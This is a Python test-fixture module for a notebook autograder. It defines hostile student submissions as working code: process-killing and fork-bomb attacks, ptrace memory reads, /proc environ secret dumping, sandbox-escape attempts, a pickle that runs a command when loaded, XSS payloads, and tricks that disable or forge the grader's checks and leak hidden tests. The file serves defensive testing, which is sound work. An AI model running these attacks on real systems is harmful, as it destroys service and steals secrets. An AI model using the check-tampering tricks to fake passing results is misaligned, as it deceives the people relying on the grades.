"""The hostile corpus: chapter 1 handed in by a student who attacks the grader instead of
solving it, each attack a few lines at the top of the untouched exercise's first answer cell.

tests/shapeschool_grader/test_hostile.py grades every attacker followed by an honest student (the
answer key) on one kernel slot (``--jobs 1``) and asserts that the attacker scores no more than
the untouched exercise, that every honest student gets exactly their score, that the batch
finishes, and that the host is left as it was.

``AGAINST_OTHERS`` are attacks on the grader and on the students after the attacker;
``AGAINST_OWN_SCORE`` try to raise the attacker's own score from inside the kernel; the class
grader decides every check in a check kernel of its own, so none may.
"""
import corpus

TOKEN = "tok-5e1f0a-instructor-only"   # planted in the grader's environment by the test

AGAINST_OTHERS = {
    # Attach a debugger to every process in view (the old shared fork server was one of them)
    # and read their memory: a patch there would change every later student's checks.
    "ptrace_everything": """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for pid in [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:
    libc.ptrace(16, pid, 0, 0)
    try:
        open(f'/proc/{pid}/mem', 'rb').read(1)
    except OSError:
        pass
    subprocess.run(['gdb', '-p', str(pid), '-batch', '-ex', 'call (void)exit(0)'], capture_output=True, timeout=20)
""",
    # A line on every inherited descriptor (the old server's reply pipe was fd 3).
    "write_inherited_descriptors": """
import os
for fd in range(3, 1024):
    try:
        os.write(fd, b'{"pid": 1}\\n' * 100)
    except OSError:
        pass
""",
    # Files and folders in every writable place, named as the next runs' would be.
    "plant_files": """
import os
for folder in ('/tmp', '/dev/shm', os.getcwd(), os.path.expanduser('~')):
    for n in range(1, 40):
        for name in (f'run{n}', f'k-{n}', 'kernel.json', f'shapeschool-slot-{n}'):
            path = os.path.join(folder, name)
            try:
                os.makedirs(path, exist_ok=True)
                open(os.path.join(path, 'next-student-reads-this'), 'w').write('planted')
            except OSError:
                pass
""",
    # Stop every process it can see or signal.
    "sigstop_everything": """
import os, signal
for pid in [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:
    try:
        os.kill(pid, signal.SIGSTOP)
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGSTOP)
except OSError:
    pass
""",
    # A daemon that keeps changing its pid, hidden among decoys, meant to kill the next kernel.
    "daemon_changing_pid": """
import os, signal, subprocess, time
for _ in range(5):
    subprocess.Popen(['sleep', '600'], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    while True:
        if os.fork():
            os._exit(0)
        for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
            try:
                if b'ipykernel' in open(f'/proc/{pid}/cmdline', 'rb').read() or pid > os.getpid():
                    os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.01)
time.sleep(0.5)
""",
    "fork_bomb": """
import os, time
try:
    while True:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
except OSError:
    pass
""",
    "kill_everything": """
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
""",
    # 2 GiB held in files that no process's resident memory shows, against a 1 GiB limit.
    "hoard_dev_shm": "open('/dev/shm/hoard', 'wb').write(b'x' * (2 * 2**30))",
    "hoard_tmp": "open('/tmp/hoard', 'wb').write(b'x' * (2 * 2**30))",
    "hoard_memfd": """
import os
fd = os.memfd_create('hoard')
for _ in range(40):
    os.write(fd, b'x' * (50 * 2**20))
""",
    "print_100_mb": "print('x' * (100 * 2**20))",
    "display_4_x_100_mb": """
from IPython.display import display
for _ in range(4):
    display({'text/plain': 'z' * (100 * 2**20)}, raw=True)
""",
    # Every environment in view, in the attacker's own output (and so in its feedback).
    "read_environments": """
import glob
for path in glob.glob('/proc/*/environ'):
    try:
        print(open(path, 'rb').read().decode(errors='replace'))
    except OSError:
        pass
""",
    # Nested user namespaces give capabilities back inside them; the cgroup tree is a way out.
    "escape_attempts": """
import os, subprocess
subprocess.run(['unshare', '--user', '--map-root-user', 'sh', '-c', 'mount -t tmpfs x /tmp'], capture_output=True)
for path in ('/sys/fs/cgroup/cgroup.procs', '/sys/fs/cgroup/memory/cgroup.procs', '/proc/sys/kernel/hostname'):
    try:
        open(path, 'w').write(str(os.getpid()))
    except OSError:
        pass
""",
    # Its own sockets swapped for links to a host socket, so the grader talks to that instead.
    "swap_own_sockets": """
import glob, os
for path in glob.glob('/tmp/k-*'):
    try:
        os.unlink(path)
        os.symlink('/run/postgresql/.s.PGSQL.5432', path)
    except OSError:
        pass
""",
}

AGAINST_OWN_SCORE = {
    "no_op_checks": """
import shapeschool as ss
for name in dir(ss):
    if name.startswith('expect'):
        setattr(ss, name, lambda *args, **kwargs: None)
""",
    "rewrite_the_kernels_replies": """
kernel = get_ipython().kernel
_send = kernel.session.send
def _send_no_errors(stream, kind, content=None, *args, **kwargs):
    if kind == 'error':
        return None
    if kind == 'execute_reply' and isinstance(content, dict) and content.get('status') == 'error':
        content = {'status': 'ok', 'execution_count': content.get('execution_count'), 'user_expressions': {}, 'payload': []}
    return _send(stream, kind, content, *args, **kwargs)
kernel.session.send = _send_no_errors
""",
    "ast_transformer_removes_asserts": """
import ast
class _NoChecks(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Call(self, node):
        self.generic_visit(node)
        name = getattr(node.func, 'id', getattr(node.func, 'attr', ''))
        return ast.Constant(None) if name.startswith(('check_', 'expect')) else node
get_ipython().ast_transformers.append(_NoChecks())
""",
    # Every later cell, the test cells included, becomes empty before it runs.
    "input_transformer_blanks_cells": """
get_ipython().input_transformers_cleanup.append(lambda lines: [])
""",
    # Errors are never shown, and every cell reports success.
    "errors_silenced": """
import sys
ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
ip.showsyntaxerror = lambda *args, **kwargs: None
sys.excepthook = lambda *args: None
ip.events.register('post_run_cell', lambda result: setattr(result, 'error_in_exec', None))
""",
    # Answer the check kernel's calls with a pickle that runs a command when loaded.
    "forged_answers_run_code": """
import os, pickle, socket, struct, sys
class _Run:
    def __reduce__(self):
        return (os.system, ('touch /tmp/the-check-kernel-ran-this',))
def _serve(namespace):
    link = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    link.connect('.shapeschool-calls')
    while True:
        size = link.recv(8, socket.MSG_WAITALL)
        if len(size) < 8:
            return
        request = link.recv(struct.unpack('!Q', size)[0], socket.MSG_WAITALL)
        reply = pickle.dumps(_Run())
        link.sendall(struct.pack('!Q', len(reply)) + reply)
sys.modules['shapeschool_calls'].serve = _serve
""",
}

# A correct answer that tries to read the code calling it (the test cell, hidden tests and all)
# and put it into its own feedback, by printing it and raising it in an error message.
LEAK_HIDDEN_TESTS = """
import inspect, linecache
def _leak():
    seen = []
    for frame in inspect.stack():
        seen += linecache.getlines(frame.filename) or [frame.filename]
    return "".join(seen)
_encode = encode
_calls = []
def encode(sentences, vocab):
    _calls.append(1)
    text = _leak()
    print(text)
    if len(_calls) > 6:
        raise ValueError(text[-3000:])
    return _encode(sentences, vocab)
"""
HIDDEN_TEST_MARK = "seed=1000"   # in chapter 1's hidden test for encode, nowhere else


def attack(source):
    """The untouched exercise with ``source`` at the top of its first answer cell."""
    nb = corpus._base("untouched")
    cell = corpus._cell(nb, "encode")
    cell.source = source.strip() + "\n\n" + cell.source
    return nb


def honest():
    return corpus._base("answer-key")


def leaking():
    """The answer key, with LEAK_HIDDEN_TESTS right after its ``encode``."""
    nb = corpus._base("answer-key")
    cell = corpus._cell(nb, "encode")
    cell.source = cell.source + "\n\n" + LEAK_HIDDEN_TESTS.strip()
    return nb


# HTML that would run if a page rendered it: each marks the page it ran in. The class report
# shows what a student's code raised and the name the gradebook holds for them, as text only.
HOSTILE_HTML = ("<script>document.body.dataset.pwned='script'</script>"
                "<img src=x onerror=\"document.body.dataset.pwned='img'\">"
                "<a href=\"javascript:document.body.dataset.pwned='link'\">see</a>"
                "\"><svg onload=\"document.body.dataset.pwned='svg'\"></svg>")


def html_in_its_error():
    """The answer key, with an ``encode`` that raises an error whose message is HOSTILE_HTML."""
    nb = corpus._base("answer-key")
    cell = corpus._cell(nb, "encode")
    cell.source = cell.source + f"\n\n\ndef encode(sentences, vocab):\n    raise ValueError({HOSTILE_HTML!r})\n"
    return nb
